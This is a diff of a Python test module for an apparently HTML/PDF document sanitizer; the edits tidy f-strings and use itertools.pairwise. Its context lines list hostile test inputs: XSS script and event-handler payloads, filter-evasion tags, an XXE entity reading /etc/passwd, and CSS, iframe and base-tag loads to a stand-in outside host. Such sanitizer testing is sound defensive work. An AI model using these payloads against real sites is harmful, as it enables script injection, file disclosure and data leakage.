@@ -9,7 +9,7 @@ from __future__ import annotations
 from base64 import b64encode
 from collections.abc import Iterator
 from dataclasses import dataclass, replace
-from itertools import count
+from itertools import count, pairwise
 from pathlib import Path
 
 from test_documents_pdf_hostile import made, stream
@@ -42,8 +42,8 @@ TAGS = (
     f"<<script>{RUN}//<</script>",
     f"<scr<script>ipt>{RUN}</scr</script>ipt>",
     f"<script src={OUT}/1.js></script>",
-    f"<script type=module src=//outside.example/2.mjs></script>",
-    f"<script>/*",
+    "<script type=module src=//outside.example/2.mjs></script>",
+    "<script>/*",
     f"*/{RUN}</script>",
     f'"><script>{RUN}</script>',
     f"'><script>{RUN}</script>",
@@ -67,7 +67,7 @@ TAGS = (
     f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
     f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
     f"<?xml version='1.0'?><?xml-stylesheet href='{OUT}/3.xsl'?>",
-    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
     f"<![CDATA[<script>{RUN}</script>]]>",
     f"<a href='javascript:{RUN}'>a way on</a>",
     f"<form action='javascript:{RUN}'><button autofocus>go</button></form>",
@@ -183,7 +183,7 @@ FETCHING = (
     "<meta http-equiv=set-cookie content='a=b'>",
     "<meta name=referrer content=unsafe-url>",
     f"<base href={OUT}/31/>",
-    f"<base target=_top href=//outside.example/32/>",
+    "<base target=_top href=//outside.example/32/>",
     f"<iframe src={OUT}/33></iframe>",
     f"<object data={OUT}/34></object>",
     f"<embed src={OUT}/35>",
@@ -201,7 +201,7 @@ FETCHING = (
     f"<style>@font-face{{font-family:a;src:url({OUT}/48)}}*{{font-family:a}}</style>",
     f"<style>input[value^=a]{{background:url({OUT}/49)}}</style>",
     f"<p style=\"background:url('{OUT}/50')\">",
-    f"<p style=position:fixed;inset:0;z-index:9999>over all",
+    "<p style=position:fixed;inset:0;z-index:9999>over all",
     f"}}*{{background:url({OUT}/51)}}",
     f";background:url({OUT}/52)",
     "</style><style>body{display:none}</style>",
@@ -378,6 +378,8 @@ Content-Location: javascript:{RUN}\n\n<article><h1>x{TAGS[0]}</h1>
 
 TOGETHER = 8
 """Strings in one document."""
+TOLD = -(-len(STRINGS) // TOGETHER)
+"""How many documents that makes: those with the first numbers."""
 
 
 @dataclass
@@ -396,7 +398,7 @@ class Credulous:
             for block in document.blocks
             if block.spans and block.spans[0].start < block.spans[0].end
         ][:40]
-        pairs = [*zip(places, places[1:], strict=False), *zip(places[-1:], places[:1], strict=True)]
+        pairs = [*pairwise(places), *zip(places[-1:], places[:1], strict=True)]
         sources = tuple(
             Source(f"p{n}", "person", True, who, (who,), (who,), who, who, who)
             for n, (who, _) in enumerate(pairs, 1)
